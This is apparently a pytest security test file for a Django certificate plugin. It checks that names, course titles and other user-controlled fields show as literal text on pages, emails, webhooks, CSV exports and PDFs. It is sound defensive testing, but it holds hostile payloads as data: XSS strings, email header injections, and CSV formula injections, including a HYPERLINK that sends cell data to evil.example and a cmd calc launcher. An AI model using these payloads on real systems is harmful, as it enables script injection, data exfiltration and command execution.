"""Markup typed by learners, staff and course authors is shown as text everywhere, never run.

Hostile values go into every field a person controls and that the plugin shows: the learner's
name (profile), the course title (course authors), the issuer and organization, an additional
requirement's label, a public revocation reason, a template's name and its signatories. Each
surface then has to show the value literally:

* the pages (verify with its Open Graph and Twitter tags, certificate, "My certificates", public
  profile, staff dashboard, settings and activity, template list and editor, the verify form's
  echo): no element, attribute or script comes out of a value, and the page obeys its
  Content-Security-Policy (tests/security/pages.py);
* emails: the HTML body escapes, the text body shows the value as typed, and no value can add a
  header (a line break in a course title stays in the one Subject line);
* the webhook's JSON carries the exact strings;
* the CSV export: no cell starts a spreadsheet formula (= + - @, tab, carriage return);
* the PDF: the text reads back with pypdf exactly as typed, and markup in a name fetches nothing.
"""

from __future__ import annotations

import csv
import http.server
import io
import json
import re
import threading
from collections.abc import Iterator
from dataclasses import dataclass
from email.header import decode_header, make_header
from typing import Any

import lxml.html
import pypdf
import pytest
from django.test import Client
from django.urls import reverse

from cert_plugin import api
from cert_plugin.text import clean_name
from tests.security import pages
from tests.unit.test_notify_backends import webhook_server

HOSTILE = [
    '<script>alert("xss")</script>',
    '"><img src=x onerror=alert(1)>',
    "' onmouseover='alert(1)' data-x='",
    "</title></textarea></style><svg onload=alert(1)>",
    "{{ request.user.password }}{% now 'Y' %}",
    "javascript:alert(document.cookie)//",
]
MARKUP = set("<>\"'&")


@dataclass
class World:
    payload: str
    course: Any
    learner: Any  # holds a published certificate
    working: Any  # in progress: sees the checklist with the hostile label
    renamed: Any  # asked for a reissue with a hostile new name
    staff: Any
    certificate: Any
    revoked: Any
    template: Any

    def value(self, field: str) -> str:
        """The hostile value of one field: the payload, tagged with the field it went into."""
        return f"{field}:{self.payload}"


def _client(user: Any = None) -> Client:
    client = Client()
    if user is not None:
        client.force_login(user)
    return client


@pytest.fixture(params=range(len(HOSTILE)), ids=[f"payload{n}" for n in range(len(HOSTILE))])
def world(request, lms, settings, no_render_task) -> World:
    payload = HOSTILE[request.param]

    def tag(field: str) -> str:
        return f"{field}:{payload}"

    settings.CERT_PLUGIN = {**settings.CERT_PLUGIN, "ISSUER_NAME": tag("issuer")}
    course = lms.course(title=tag("title"))
    api.configure_course(course.course_key, additional_requirements=[{"key": "project",
                                                                      "label": tag("label")}])
    staff = lms.staff(course)
    learner = lms.learner(course, name=tag("name"))
    certificate = api.set_public(api.issue(learner, course.course_key, by=staff), True, by=learner)
    working = lms.learner(course, name=tag("working"))
    api.mark_requirement_met(working, course.course_key, "project", by=staff)
    renamed = lms.learner(course, name="Kenji Watanabe")
    renamed_certificate = api.issue(renamed, course.course_key, by=staff)
    renamed.lms_profile.full_name = tag("newname")
    renamed.lms_profile.save()
    api.request_reissue(renamed_certificate, by=renamed)
    revoked = api.issue(lms.learner(course, name="Lucía Fernández"), course.course_key, by=staff)
    revoked = api.revoke(revoked, reason=tag("reason"), by=staff, publish_reason=True)
    template = api.duplicate_template(api.builtin_templates()[0], tag("template"), org="Northwind", by=staff)
    api.update_template(template, options={"signatories": [{"name": tag("signatory"), "title": tag("role"),
                                                             "signature": ""}], "honors": []}, by=staff)
    return World(payload, course, learner, working, renamed, staff, certificate, revoked, template)


def _shown(document: Any) -> str:
    """Everything a reader can see or a crawler read: text, and every attribute value."""
    values = [document.text_content()]
    for element in document.iter():
        if isinstance(element.tag, str):
            values.extend(str(value) for value in element.attrib.values())
    return "\n".join(values)


def _check(response: Any, world: World, *fields: str) -> Any:
    """The page is the plugin's, obeys its policy, shows each field's value literally and never
    as markup; returns the parsed page."""
    assert response.status_code in (200, 404), response.status_code
    assert pages.check_page(response.request["PATH_INFO"], response)
    body = response.content.decode("utf-8")
    document = lxml.html.fromstring(body)
    shown = _shown(document)
    for field in fields:
        value = world.value(field)
        assert value in shown, f"{field} is not shown literally"
        if MARKUP & set(world.payload):
            assert value not in body, f"{field} is in the page unescaped"
    injected = document.xpath("//img[@src='x'] | //svg[@onload] | //*[@onerror] | //*[@onmouseover]"
                              " | //script[not(@src)] | //*[@data-x]")
    assert injected == []
    return document


def _verify_page_and_its_link_preview_tags(world):
    code = world.certificate.formatted_code
    document = _check(_client().get(reverse("cert_plugin:verify", args=[code])), world, "name", "title",
                      "issuer")
    og_title = document.xpath("//meta[@property='og:title']/@content")
    assert og_title == [f"{world.value('name')} — {world.value('title')}"]
    assert document.xpath("//meta[@name='twitter:title']/@content") == og_title
    assert world.value("issuer") in document.xpath("//meta[@property='og:site_name']/@content")
    assert world.value("name") in document.findtext(".//title")


def _verify_page_of_a_revoked_certificate_shows_the_public_reason(world):
    code = world.revoked.formatted_code
    _check(_client().get(reverse("cert_plugin:verify", args=[code])), world, "reason", "title")


def _certificate_page_and_public_profile(world):
    code = world.certificate.formatted_code
    _check(_client(world.learner).get(reverse("cert_plugin:certificate", args=[code])), world,
           "name", "title", "issuer")
    _check(_client().get(reverse("cert_plugin:public-profile", args=[world.learner.username])), world,
           "name", "title")


def _my_certificates_with_the_checklist(world):
    _check(_client(world.learner).get(reverse("cert_plugin:learner-dashboard")), world, "name", "title")
    _check(_client(world.working).get(reverse("cert_plugin:learner-dashboard")), world, "title", "label")


def _staff_dashboard_settings_and_activity(world):
    key = str(world.course.course_key)
    client = _client(world.staff)
    _check(client.get(reverse("cert_plugin:staff-dashboard", args=[key])), world,
           "name", "working", "label", "newname", "title")
    _check(client.get(reverse("cert_plugin:staff-settings", args=[key])), world, "label", "template")
    _check(client.get(reverse("cert_plugin:staff-audit", args=[key])), world, "label", "name", "reason")


def _template_list_and_editor(world):
    client = _client(world.staff)
    _check(client.get(reverse("cert_plugin:template-list")), world, "template")
    _check(client.get(reverse("cert_plugin:template-edit", args=[world.template.pk])), world,
           "template", "signatory", "role")


def _what_a_visitor_typed_is_echoed_as_text(world):
    typed = world.value("typed")
    response = _client().get(reverse("cert_plugin:verify-form"), {"code": typed})
    document = _check(response, world, "typed")
    assert document.xpath("//input[@name='code']/@value") == [typed]
    # a path segment is echoed on the "not found" page (its first 60 characters)
    segment = world.value("path").replace("/", "")
    response = _client().get(reverse("cert_plugin:verify", args=[segment]))
    assert response.status_code == 404
    assert pages.check_page("verify-not-found", response)
    if MARKUP & set(segment):
        assert segment[:60] not in response.content.decode()
    assert segment[:60] in _shown(lxml.html.fromstring(response.content.decode()))


SURFACES = [
    _verify_page_and_its_link_preview_tags, _verify_page_of_a_revoked_certificate_shows_the_public_reason,
    _certificate_page_and_public_profile, _my_certificates_with_the_checklist,
    _staff_dashboard_settings_and_activity, _template_list_and_editor,
    _what_a_visitor_typed_is_echoed_as_text,
]


def test_every_page_shows_hostile_values_as_text(world):
    """One world per payload (building it is the slow part), every page checked in it."""
    for surface in SURFACES:
        surface(world)


# --------------------------------------------------------------------------- emails and webhooks


def test_emails_escape_html_show_text_literally_and_take_no_header_from_a_value(lms, mailoutbox,
                                                                                   no_render_task):
    for payload in HOSTILE:
        mailoutbox.clear()
        _email_of(lms, mailoutbox, payload)


def _email_of(lms, mailoutbox, payload):
    title = f"Course {payload}\r\nBcc: victim@example.org\nX-Injected: 1"
    course = lms.course(title=title)
    api.configure_course(course.course_key)
    learner = lms.learner(course, name=f"{payload}\nBcc: victim@example.org")
    api.issue(learner, course.course_key, by=lms.staff(course))

    [email] = mailoutbox
    message = email.message()
    assert message.get_all("Bcc") is None
    assert message.get_all("X-Injected") is None
    # One Subject header (folded over lines if long, as headers are), saying the title on one line.
    assert len(message.get_all("Subject")) == 1
    expected = " ".join(f"Your certificate for {title} is ready".split())
    assert email.subject == expected
    assert " ".join(str(make_header(decode_header(message["Subject"]))).split()) == expected
    assert email.recipients() == [learner.email]
    assert f"Dear {payload}" in email.body  # plain text: as typed
    html = email.alternatives[0][0]
    document = lxml.html.fromstring(html)
    assert f"Dear {payload}" in document.text_content()
    if MARKUP & set(payload):
        assert payload not in html
    assert document.xpath("//script | //img | //svg | //*[@onerror] | //*[@onmouseover] | //*[@data-x]") == []


def test_the_webhook_carries_the_exact_strings(lms, settings, no_render_task):
    with webhook_server() as hook:
        settings.CERT_PLUGIN = {**settings.CERT_PLUGIN, "NOTIFY": {"BACKENDS": [
            {"class": "cert_plugin.notify.webhook.WebhookBackend", "url": hook.url, "secret": "s"}]}}
        for payload in HOSTILE:
            course = lms.course(title=f"title:{payload}")
            api.configure_course(course.course_key)
            learner = lms.learner(course, name=f"name:{payload}\nX-Injected: 1")
            api.issue(learner, course.course_key, by=lms.staff(course))

    assert len(hook.requests) == len(HOSTILE)
    for payload, (headers, body) in zip(HOSTILE, hook.requests, strict=True):
        assert "x-injected" not in headers
        document = json.loads(body)
        # the name as captured (issue 13): one line, without control characters, otherwise as typed
        assert document["learner"]["name"] == clean_name(f"name:{payload}\nX-Injected: 1")
        assert "\n" not in document["learner"]["name"]
        assert document["course_title"] == f"title:{payload}"


# --------------------------------------------------------------------------- CSV export

FORMULAS = ['=HYPERLINK("http://evil.example/?"&A1,"Click")', "+1+cmd|' /C calc'!A0", "-2+3",
            "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+1", "\r=1+1", " =1+1"]


def test_the_csv_export_never_starts_a_formula(lms, no_render_task):
    course = lms.course()
    api.configure_course(course.course_key)
    staff = lms.staff(course)
    for index, formula in enumerate(FORMULAS):
        learner = lms.learner(course, name=formula, username=f"formula{index}")
        certificate = api.issue(learner, course.course_key, by=staff)
        api.revoke(certificate, reason=formula, by=staff)
    plain = lms.learner(course, name="Amelia Okafor", username="plain")
    api.issue(plain, course.course_key, by=staff)

    response = _client(staff).get(reverse("cert_plugin:staff-export", args=[str(course.course_key)]))
    text = b"".join(response.streaming_content).decode("utf-8").removeprefix("\ufeff")
    rows = list(csv.DictReader(io.StringIO(text)))
    api_rows = list(api.export_rows(course.course_key))

    for cells in [list(row.values()) for row in rows] + api_rows[1:]:
        starts = [cell for cell in cells if cell and cell[0] in "=+-@\t\r"]
        assert starts == []
    by_user = {row["username"]: row for row in rows}
    for index, formula in enumerate(FORMULAS):
        row = by_user[f"formula{index}"]
        # shown as typed (reasons are stored trimmed) after the quote that makes it text
        # names as captured: one line, trimmed (issue 13)
        assert row["name_on_certificate"].removeprefix("'") == clean_name(formula)
        assert row["revoke_reason"].removeprefix("'") == formula.strip()
    assert by_user["plain"]["name_on_certificate"] == "Amelia Okafor"
    assert by_user["plain"]["issued_at"][:2] == "20"  # dates and codes are left alone


# --------------------------------------------------------------------------- PDF


class _Recorder(http.server.BaseHTTPRequestHandler):
    seen: list[str]

    def do_GET(self) -> None:
        self.seen.append(self.path)
        self.send_response(404)
        self.end_headers()

    def log_message(self, *args: object) -> None:
        pass


@pytest.fixture
def listener() -> Iterator[tuple[str, list[str]]]:
    seen: list[str] = []
    server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), type("R", (_Recorder,), {"seen": seen}))
    thread = threading.Thread(target=server.serve_forever, daemon=True)
    thread.start()
    try:
        yield f"http://127.0.0.1:{server.server_address[1]}", seen
    finally:
        server.shutdown()
        server.server_close()


def _squeeze(text: str) -> str:
    return re.sub(r"\s+", "", text)


@pytest.mark.parametrize("orientation", ["landscape", "portrait"])
def test_markup_in_a_name_prints_literally_in_the_pdf_and_fetches_nothing(lms, listener, orientation):
    base, seen = listener
    name = f'<img src="{base}/name.png" onerror=alert(1)></p><script>x()</script>'
    title = f'</h1><link rel="attachment" href="{base}/title.bin"><style>@import "{base}/t.css";</style>'
    course = lms.course(title=title)
    builtin = next(t for t in api.builtin_templates() if t.current_version.orientation == orientation)
    api.configure_course(course.course_key, template=builtin)
    learner = lms.learner(course, name=name)
    certificate = api.issue(learner, course.course_key, by=lms.staff(course))

    data = api.render_pdf(certificate)

    document = pypdf.PdfReader(io.BytesIO(data))
    text = _squeeze("".join(page.extract_text() for page in document.pages))
    assert _squeeze(name) in text
    assert _squeeze(title) in text
    # The only attachment is the certificate's own credential (issue 15): the title's <link> added none.
    assert list(document.attachments) == ["credential.jwt"]
    assert document.attachments["credential.jwt"] == [api.credential_jwt(certificate).encode()]
    assert seen == []
